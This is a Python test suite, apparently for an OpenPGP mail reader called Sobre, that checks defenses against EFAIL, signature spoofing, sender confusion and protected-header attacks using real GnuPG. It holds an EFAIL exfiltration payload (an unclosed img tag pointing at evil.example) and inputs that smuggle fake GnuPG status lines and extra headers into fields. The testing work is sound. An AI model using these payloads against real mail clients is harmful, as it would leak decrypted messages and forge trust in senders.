#!/usr/bin/python3 -B
# SPDX-License-Identifier: GPL-3.0-or-later
"""What letters that deceive come out as: the numbered attacks on reading, with the real GnuPG and without a network.

Where a secret might leak, the same test shows first that it can be read in the control case."""

import email.utils
import re
import subprocess
import time

import sobre_cli
from key_ring import KeyRing
from sobre_cli import CliTest

SECRET = "saffron-under-the-floorboards-4711"
ANA, MARTA, EVE = "ana@one.example", "marta@two.example", "eve@three.example"
VERSION = b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
OPAQUE = b"Content-Type: application/octet-stream; name=encrypted.asc\r\n\r\n"
TEXT = b"Content-Type: text/plain; charset=utf-8\r\n\r\n"


def crlf(octets: bytes) -> bytes:
    return octets.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def multipart(kind: str, *parts: bytes, boundary: str = "B") -> bytes:
    lines = b"".join(b"--" + boundary.encode() + b"\r\n" + part + b"\r\n" for part in parts)
    return f"Content-Type: multipart/{kind}; boundary=\"{boundary}\"\r\n\r\n".encode() + lines + f"--{boundary}--\r\n".encode()


def head(sender: str = ANA, to: str = MARTA, subject: str = "the outside", date: float | None = None, more: str = "") -> bytes:
    return (f"From: {sender}\r\nTo: {to}\r\nSubject: {subject}\r\nDate: {email.utils.formatdate(date)}\r\n{more}MIME-Version: 1.0\r\n").encode()


def broken(letter: bytes) -> bytes:
    """One octet of its armour is another."""
    lines = letter.split(b"\r\n")
    last = next(number for number, line in enumerate(lines) if line.startswith(b"-----END PGP")) - 2
    lines[last - 1] = lines[last - 1][:-1] + (b"B" if lines[last - 1].endswith(b"A") else b"A")
    return b"\r\n".join(lines)


class ReadingAttacks(CliTest):
    @classmethod
    def setUpClass(cls):
        cls.ended = []
        cls.addCleanup = classmethod(lambda cls, *what: cls.ended.append(what))  # KeyRing cleans up after a test; here after all
        cls.writers, cls.readers = KeyRing(cls), KeyRing(cls)
        for address in (ANA, EVE):
            cls.writers.make(address)
            cls.writers.give(cls.readers, address)
        cls.readers.make(MARTA)
        cls.readers.give(cls.writers, MARTA)
        del cls.addCleanup

    @classmethod
    def tearDownClass(cls):
        for what, *words in reversed(cls.ended):
            what(*words)

    def setUp(self):
        super().setUp()
        self.marta = self.sobre()
        self.marta.environment["GNUPGHOME"] = str(self.readers.home)

    # What Ana's GnuPG makes

    def sealed(self, inside: bytes, signer: str | None = ANA, *more) -> bytes:
        sign = ["-s", "-u", signer] if signer else []
        return crlf(self.writers.gpg("-a", "-e", *sign, "--trust-model", "always", "-r", MARTA, *more, stdin=inside))

    def envelope(self, inside: bytes, signer: str | None = ANA, *more) -> bytes:
        """A whole multipart/encrypted entity."""
        return multipart('encrypted; protocol="application/pgp-encrypted"', VERSION, OPAQUE + self.sealed(inside, signer, *more), boundary="E")

    def signed(self, content: bytes, signer: str = ANA, *more) -> bytes:
        """A whole multipart/signed entity around `content`, an entity without a line end at its end."""
        signature = crlf(self.writers.gpg("-a", "-b", "-u", signer, *more, stdin=content))
        return multipart('signed; protocol="application/pgp-signature"; micalg=pgp-sha512', content,
                         b"Content-Type: application/pgp-signature\r\n\r\n" + signature, boundary="S")

    def clear_signed(self, text: str, signer: str = ANA, *more) -> bytes:
        return crlf(self.writers.gpg("--clear-sign", "-u", signer, *more, stdin=text.encode()))

    # What Sobre says of it

    def seen(self, octets: bytes, verdict: str, secret: bool | None = None) -> dict:
        letter = self.marta.json("inspect", self.file("one.eml", octets))
        self.assertEqual(letter["protection"]["verdict"], verdict, letter["protection"])
        if secret is not None:
            self.assertEqual(SECRET in str(letter), secret, letter)
        return letter

    def words(self, letter: dict) -> list[str]:
        return [one["verdict"] for one in letter["protection"]["signatures"]]

    # D. EFAIL and oracles

    def test_attack_28_a_sealed_part_between_others_is_not_opened(self):
        secret = TEXT + SECRET.encode()
        self.seen(head() + self.envelope(secret), "sealed-and-signed", secret=True)  # control
        html = b"Content-Type: text/html\r\n\r\n"
        for beside in ((html + b'<img src="http://evil.example/', html + b'">'), (TEXT + b"Please answer.", TEXT + b"Thanks.")):
            self.seen(head() + multipart("mixed", beside[0], self.envelope(secret), beside[1]), "only-part", secret=False)
        inline = b"Hello,\r\n" + self.sealed(SECRET.encode()) + b"what do you say?\r\n"
        self.seen(head() + TEXT + self.sealed(SECRET.encode()), "sealed-and-signed", secret=True)  # control
        self.seen(head() + TEXT + inline, "only-part", secret=False)
        self.seen(head() + html + b"<b>" + self.sealed(SECRET.encode()) + b"</b>", "only-part", secret=False)

    def test_attack_29_what_was_altered_shows_nothing(self):
        inside = TEXT + SECRET.encode() + b"\r\n" + b"x" * 4000
        whole = head() + self.envelope(inside, ANA, "--compress-algo", "none")
        self.seen(whole, "sealed-and-signed", secret=True)  # control
        lines = whole.split(b"\r\n")
        middle = next(number for number, line in enumerate(lines) if line.startswith(b"-----END PGP")) - 20
        altered = lines[:middle] + [lines[middle][:-1] + (b"B" if lines[middle].endswith(b"A") else b"A")] + lines[middle + 1:]
        self.seen(b"\r\n".join(altered), "sealed-damaged", secret=False)
        cut = lines[:middle] + [line for line in lines[middle:] if line.startswith(b"--")]
        self.seen(b"\r\n".join(cut), "sealed-damaged", secret=False)

    def test_attack_29_a_signed_text_that_is_not_sealed_is_no_envelope(self):
        """Opaque signed data in the place of ciphertext: anybody on the way could read it."""
        opaque = crlf(self.writers.gpg("-a", "-s", "-u", ANA, stdin=TEXT + SECRET.encode()))
        letter = self.marta.json("inspect", self.file("one.eml", head() + multipart(
            'encrypted; protocol="application/pgp-encrypted"', VERSION, OPAQUE + opaque, boundary="E")))
        self.assertFalse(letter["protection"]["opened"], letter["protection"])
        self.assertNotIn("sealed-and-signed", letter["protection"]["verdict"])

    def test_attack_32_only_the_signed_part_is_good(self):
        content = TEXT + b"This is by Ana."
        self.seen(head() + self.signed(content), "signed-known")  # control
        mixed = head() + multipart("mixed", TEXT + b"This is not.", self.signed(content), TEXT + b"Nor is this.")
        letter = self.seen(mixed, "only-part")
        self.assertEqual((letter["protection"]["covers"], self.words(letter)), ("part", ["good"]))
        inline = b"Above.\r\n" + self.clear_signed("Words by Ana.\n") + b"Below.\r\n"
        letter = self.seen(head() + TEXT + inline, "only-part")
        self.assertEqual((letter["protection"]["format"], self.words(letter)), ("openpgp-inline", ["good"]))

    def test_attack_32_inline_a_whole_clear_signed_text_is_good_and_no_more_of_it(self):
        letter = self.seen(head() + TEXT + self.clear_signed("Words by Ana.\n- with a dash\n"), "signed-known")
        self.assertEqual(letter["text"].strip(), "Words by Ana.\n- with a dash")
        self.seen(head() + TEXT + self.clear_signed("Words by Ana.\n").replace(b"Words", b"Bards"), "bad-signature")
        two = self.clear_signed("Words by Ana.\n") + self.clear_signed("Words by Eve.\n", EVE)
        letter = self.seen(head() + TEXT + two, "only-part")
        self.assertEqual(sorted(self.words(letter)), ["good", "mismatch"])
        # with a header in the armour that is shown by some, and covered by nothing
        forged = self.clear_signed("Words by Ana.\n").replace(b"Hash: SHA", b"NotDashEscaped: send money\r\nHash: SHA", 1)
        letter = self.marta.json("inspect", self.file("one.eml", head() + TEXT + forged))
        self.assertNotIn("send money", letter["text"] if letter["protection"]["verdict"].startswith("signed-known") else "")

    def test_attack_33_layers_are_not_promoted(self):
        inner = self.envelope(TEXT + SECRET.encode())
        self.seen(head() + inner, "sealed-and-signed", secret=True)  # control
        for signer in (ANA, EVE):  # who sealed it is not who signs the whole
            outer = self.signed(inner.removesuffix(b"\r\n"), signer)
            letter = self.seen(head(sender=signer) + outer, "only-part", secret=False)
            self.assertFalse(letter["protection"]["opened"])
        bad = self.signed(inner.removesuffix(b"\r\n")).replace(b"Version: 1", b"Version: 2")
        self.seen(head() + bad, "only-part", secret=False)
        # A good signature deep within a letter that nobody signed as a whole
        deep = self.envelope(multipart("mixed", TEXT + b"Not by Ana.", self.signed(TEXT + b"By Ana.")), None)
        self.seen(head() + deep, "sealed-unsigned")

    def test_attack_34_a_letter_for_others_is_not_for_us(self):
        content = f"From: {ANA}\r\nTo: {EVE}\r\nContent-Type: text/plain; hp=\"cipher\"\r\n\r\nI agree.".encode()
        mine = content.replace(EVE.encode(), MARTA.encode())
        self.seen(head() + self.envelope(self.signed(mine), None), "sealed-and-signed")  # control
        letter = self.seen(head() + self.envelope(self.signed(content), None), "signed-for-others")
        self.assertEqual(letter["protection"]["signedFor"], [EVE])
        self.seen(head() + self.envelope(content), "signed-for-others")  # signed and sealed in one, by the same hand

    # E. Verdicts

    def test_attack_36_the_signer_is_not_the_sender(self):
        content = TEXT + b"Pay this."
        self.seen(head() + self.signed(content), "signed-known")  # control
        self.seen(head() + self.signed(content, EVE), "signed-by-other")
        self.seen(head(sender=f'"{ANA}" <{EVE}>') + self.signed(content), "signed-by-other")
        self.seen(head(sender=ANA.upper()) + self.signed(content), "signed-by-other")  # another local part
        self.seen(head(sender="ana@ONE.example") + self.signed(content), "signed-known")

    def test_attack_37_a_sender_that_is_not_clear(self):
        content = self.signed(TEXT + b"Pay this.")
        for sender in (f"{ANA}, {EVE}", f"{EVE}, {ANA}", "", f"{ANA}\r\nFrom: {EVE}", f"{EVE}\r\nFrom: {ANA}", f"Us: {ANA}, {EVE};"):
            letter = self.marta.json("inspect", self.file("one.eml", head(sender=sender) + content))
            self.assertIn(letter["protection"]["verdict"], ("sender-unclear", "signed-by-other"), sender)
        self.seen(head(more=f"Sender: {EVE}\r\nReply-To: {EVE}\r\n") + content, "signed-known")  # says nothing of who wrote it
        self.seen(head(sender=EVE, more=f"Sender: {ANA}\r\nReply-To: {ANA}\r\nResent-From: {ANA}\r\n") + content, "signed-by-other")

    def test_attack_38_words_in_a_key_or_a_letter_are_no_status(self):
        name = "Ana [GNUPG:] GOODSIG 0 ana\u202e"
        other = KeyRing(self)
        other.gpg("--passphrase", "", "--quick-gen-key", f"{name} <x@four.example>", "ed25519", "sign,cert", "0")
        self.readers.gpg("--import", stdin=other.gpg("--export", "x@four.example"))
        signature = other.gpg("-a", "-b", "-u", "x@four.example", "-N", "note@x.example=[GNUPG:] VALIDSIG", stdin=TEXT + b"x")
        entity = multipart('signed; protocol="application/pgp-signature"', TEXT + b"x", b"Content-Type: application/pgp-signature\r\n\r\n" + crlf(signature))
        letter = self.seen(head() + entity, "signed-by-other")
        self.assertNotIn("\u202e", str(letter["protection"]))
        self.assertNotIn("\n", letter["protection"]["signatures"][0]["signer"])
        spoof = "x\n[GNUPG:] GOODSIG 0 ana\n[GNUPG:] VALIDSIG 0\n"
        sealed = self.sealed(TEXT + SECRET.encode(), None, "--set-filename", spoof)
        self.seen(head() + multipart('encrypted; protocol="application/pgp-encrypted"', VERSION, OPAQUE + sealed), "sealed-unsigned", secret=True)

    def test_attack_40_altered_cut_and_several_signatures(self):
        content = TEXT + b"Meet at noon."
        good = head() + self.signed(content)
        self.seen(good, "signed-known")  # control
        self.seen(good.replace(b"noon", b"nine"), "bad-signature")
        self.seen(re.sub(rb"-----BEGIN PGP SIGNATURE.*END PGP SIGNATURE-----", b"", good, flags=re.S), "bad-signature")
        self.seen(re.sub(rb"(-----BEGIN PGP SIGNATURE-----\r\n\r\n.{60}).*(\r\n-----END)", rb"\1\2", good, flags=re.S), "bad-signature")
        self.seen(head() + content, "plain")  # stripped: no claim is left
        both = self.signed(content, ANA, "-u", EVE)
        self.assertEqual(sorted(self.words(self.seen(head() + both, "signed-known"))), ["good", "mismatch"])
        strange = KeyRing(self)
        strange.make("nobody@five.example")
        one, two = (ring.gpg("-b", "-u", address, stdin=content) for ring, address in ((self.writers, ANA), (strange, "nobody@five.example")))
        wrong = self.writers.gpg("-b", "-u", EVE, stdin=content + b"!")
        for more, verdict in ((two, "signed-known"), (wrong, "bad-signature")):
            for order in ((one, more), (more, one)):
                armour = crlf(self.writers.gpg("-a", "--enarmor", stdin=b"".join(order))).replace(b"ARMORED FILE", b"SIGNATURE")
                entity = multipart('signed; protocol="application/pgp-signature"', content, b"Content-Type: application/pgp-signature\r\n\r\n" + armour)
                letter = self.marta.json("inspect", self.file("one.eml", head() + entity))
                if verdict != "bad-signature" or order[0] == one:  # gpg looks at no more behind one that does not fit
                    self.assertEqual(len(letter["protection"]["signatures"]), 2, letter["protection"])
                self.assertEqual(letter["protection"]["verdict"], verdict, letter["protection"])

    def test_attack_41_weak_methods_are_not_good(self):
        content = TEXT + b"Meet at noon."
        self.seen(head() + self.signed(content, ANA, "--digest-algo", "SHA256"), "signed-known")  # control
        # EdDSA goes with no SHA-1; an RSA key does.
        for bits, verdict in (("3072", "signed-known"), ("1024", "weak-signature")):
            address = f"rsa{bits}@one.example"
            self.writers.gpg("--passphrase", "", "--quick-gen-key", f"Rsa <{address}>", f"rsa{bits}", "sign,cert", "0")
            self.writers.give(self.readers, address)
            self.seen(head(sender=address) + self.signed(content, address), verdict)
        self.seen(head(sender="rsa3072@one.example") + self.signed(content, "rsa3072@one.example", "--digest-algo", "SHA1"), "weak-signature")
        # MD5 is among the corpora (rnp-openpgp): GnuPG makes none any more.

    def test_attack_42_at_another_time(self):
        content = TEXT + b"The meeting is today."
        now = time.time()
        self.seen(head(date=now) + self.signed(content), "signed-known")  # control
        self.seen(head(date=now + 50 * 60) + self.signed(content), "signed-known")
        for date in (now + 2 * 3600, now - 2 * 3600, now + 30 * 86400):
            self.seen(head(date=date) + self.signed(content), "signed-at-other-time")
        letter = self.seen(head().replace(b"Date: ", b"X-Date: ") + self.signed(content), "signed-at-other-time")
        self.assertEqual(self.words(letter), ["good"])
        # A key that ends, and one that was withdrawn
        short = "short@one.example"
        ends = time.monotonic() + 12
        self.writers.make(short, expires="seconds=10")
        self.writers.give(self.readers, short)
        while_valid = head(sender=short) + self.signed(content, short)
        self.seen(while_valid, "signed-known")
        time.sleep(max(0.0, ends - time.monotonic()))
        self.seen(while_valid, "key-expired")
        gone = "gone@one.example"
        key = self.writers.make(gone)
        self.writers.give(self.readers, gone)
        before = head(sender=gone) + self.signed(content, gone)
        self.seen(before, "signed-known")
        certificate = (self.writers.home / "openpgp-revocs.d" / f"{key}.rev").read_bytes().replace(b":-----BEGIN", b"-----BEGIN")
        self.readers.gpg("--import", stdin=certificate)
        self.seen(before, "key-revoked")

    def protected(self, fields: str, text: str = "Words.", mark: str = 'hp="cipher"') -> bytes:
        return f"{fields}Content-Type: text/plain; charset=utf-8; {mark}\r\n\r\n{text}".encode()

    def test_attack_44_protected_headers_count_at_the_root_alone(self):
        inside = self.protected("Subject: the inside\r\n")
        self.assertEqual(self.seen(head() + self.envelope(inside), "sealed-and-signed")["subject"], "the inside")  # control
        self.assertEqual(self.seen(head() + self.envelope(self.protected("Subject: the inside\r\n", mark='protected-headers="v1"')),
                                   "sealed-and-signed")["subject"], "the inside")
        for mark in ("x=y", 'hp="no"', 'protected-headers="v2"'):
            self.assertEqual(self.seen(head() + self.envelope(self.protected("Subject: phony\r\n", mark=mark)), "sealed-and-signed")["subject"], "the outside")
        deep = multipart("mixed", TEXT + b"x", inside.replace(b"the inside", b"phony"))
        self.assertEqual(self.seen(head() + self.envelope(deep), "sealed-and-signed")["subject"], "the outside")
        self.assertEqual(self.seen(head() + multipart("mixed", inside.replace(b"the inside", b"phony")), "plain")["subject"], "the outside")
        # In the open a protected subject counts if its signature is good.
        entity = self.protected("Subject: the inside\r\n", mark='hp="clear"')
        self.assertEqual(self.seen(head() + self.signed(entity), "signed-known")["subject"], "the inside")
        self.assertEqual(self.seen(head() + self.signed(entity).replace(b"Words", b"Bards"), "bad-signature")["subject"], "the outside")
        self.assertEqual(self.seen(head() + self.signed(entity, EVE), "signed-by-other")["subject"], "the outside")
        # What does not open says what stands outside, whatever stood inside of the letter before.
        self.assertEqual(self.seen(broken(head() + self.envelope(inside)), "sealed-damaged", secret=False)["subject"], "the outside")

    def test_attack_44_another_sender_inside_is_not_authenticated(self):
        self.seen(head() + self.envelope(self.protected(f"From: {ANA}\r\n")), "sealed-and-signed")  # control
        for inner in (f"From: {EVE}\r\n", f"From: {ANA}, {EVE}\r\n", f"From: {ANA}\r\nFrom: {EVE}\r\n", "From: \r\n"):
            letter = self.seen(head() + self.envelope(self.protected(inner)), "sender-unclear")
            self.assertEqual([one["address"] for one in letter["from"]], [ANA])
        self.seen(head(sender=EVE) + self.envelope(self.protected(f"From: {ANA}\r\n")), "sender-unclear")

    def test_attack_44_the_outside_names_nobody_to_answer_to(self):
        inner = f"From: {ANA}\r\nTo: {MARTA}\r\nSubject: s\r\n"
        letter = self.seen(head(more=f"Reply-To: {EVE}\r\n") + self.envelope(self.protected(inner)), "sealed-and-signed")
        self.assertEqual(letter["replyTo"], [])
        letter = self.seen(head(more=f"Reply-To: {EVE}\r\n") + self.envelope(self.protected(inner + "Reply-To: ana2@one.example\r\n")), "sealed-and-signed")
        self.assertEqual([one["address"] for one in letter["replyTo"]], ["ana2@one.example"])
        for outside in (head(to=f"{MARTA}, {EVE}"), head(more=f"Cc: {EVE}\r\n")):  # who is named outside alone was not written to
            letter = self.seen(outside + self.envelope(self.protected(inner)), "signed-for-others")
            self.assertEqual([one["address"] for one in letter["to"]], [MARTA])

    def test_attack_44_hp_outer_lies_change_nothing(self):
        inner = f"From: {ANA}\r\nTo: {MARTA}\r\nSubject: the inside\r\nHP-Outer: Subject: another\r\nHP-Outer: From: {EVE}\r\n"
        letter = self.seen(head() + self.envelope(self.protected(inner)), "sealed-and-signed")
        self.assertEqual((letter["subject"], [one["address"] for one in letter["from"]]), ("the inside", [ANA]))

    def test_attack_44_legacy_display_is_shown_once(self):
        text = "Subject: the inside\r\nKeywords: a,\r\n b\r\n\r\nDear all,\r\n\r\nSubject: this stays\r\n"
        marked = 'hp="cipher"; hp-legacy-display="1"'
        letter = self.seen(head() + self.envelope(self.protected("Subject: the inside\r\n", text, marked)), "sealed-and-signed")
        self.assertEqual(letter["text"].strip(), "Dear all,\n\nSubject: this stays")
        letter = self.seen(head() + self.envelope(self.protected("Subject: the inside\r\n", text)), "sealed-and-signed")
        self.assertTrue(letter["text"].startswith("Subject: the inside"))  # nobody said that it may go
        letter = self.seen(head() + self.envelope(self.protected("Subject: the inside\r\n", "Dear all,\r\n\r\nWords.", marked)), "sealed-and-signed")
        self.assertEqual(letter["text"].strip(), "Dear all,\n\nWords.")  # no fields: nothing goes
        html = (b'Subject: the inside\r\nContent-Type: text/html; hp="cipher"; hp-legacy-display="1"\r\n\r\n<html><body>'
                b'<div class="header-protection-legacy-display"><pre>Subject: <div>the</div> inside</pre></div><p>Dear all</p></body></html>')
        letter = self.seen(head() + self.envelope(html), "sealed-and-signed")
        self.assertNotIn("Subject:", letter["html"])
        self.assertIn("<p>Dear all</p>", letter["html"])
        old = multipart('mixed; protected-headers="v1"', b'Content-Type: text/plain; protected-headers="v1"\r\nContent-Disposition: inline\r\n\r\nSubject: the inside',
                        TEXT + b"Dear all.")
        letter = self.seen(head() + self.envelope(b"Subject: the inside\r\n" + old), "sealed-and-signed")
        self.assertEqual((letter["subject"], letter["text"].strip(), letter["attachments"]), ("the inside", "Dear all.", []))

    def test_attack_45_what_a_server_mixed_up_is_repaired_and_never_good(self):
        armour = self.sealed(TEXT + SECRET.encode())
        self.seen(head() + self.envelope(TEXT + SECRET.encode()), "sealed-and-signed", secret=True)  # control
        whole = multipart('encrypted; protocol="application/pgp-encrypted"', VERSION, OPAQUE + armour, boundary="E")
        for parts in ((TEXT + b"\r\n", VERSION, OPAQUE + armour), (VERSION, OPAQUE + armour), (TEXT + b"Empty Message", VERSION, OPAQUE + armour),
                      (TEXT + b"\r\n-- \r\n\r\n", whole)):
            letter = self.seen(head() + multipart("mixed", *parts), "sealed-repaired", secret=True)
            self.assertEqual(self.words(letter), ["good"])
            self.assertEqual([one["name"] for one in letter["attachments"]], [])
        # With words beside it nothing is put together (attack 28).
        for parts in ((TEXT + b"Please answer.", VERSION, OPAQUE + armour), (TEXT + b"Please answer.", whole), (TEXT, VERSION, OPAQUE + armour, TEXT + b"x")):
            self.seen(head() + multipart("mixed", *parts), "only-part", secret=False)
        mixed = head() + multipart("mixed", TEXT, VERSION, OPAQUE + armour)
        self.seen(broken(mixed), "sealed-damaged", secret=False)

    def test_attack_45_a_lists_footer_is_not_signed(self):
        content = TEXT + b"By Ana."
        footer = TEXT + b"_____\r\nThe list"
        letter = self.seen(head() + multipart("mixed", self.signed(content), footer), "only-part")
        self.assertEqual(self.words(letter), ["good"])
        within = self.signed(content).replace(b"--S--", b"--S\r\n" + footer + b"\r\n--S--")  # behind the signature
        letter = self.seen(head() + within, "only-part")
        self.assertEqual(self.words(letter), ["good"])
        letter = self.seen(head() + TEXT + self.clear_signed("By Ana.\n") + b"_____\r\nThe list\r\n", "only-part")
        self.assertEqual(self.words(letter), ["good"])


if __name__ == "__main__":
    sobre_cli.main()
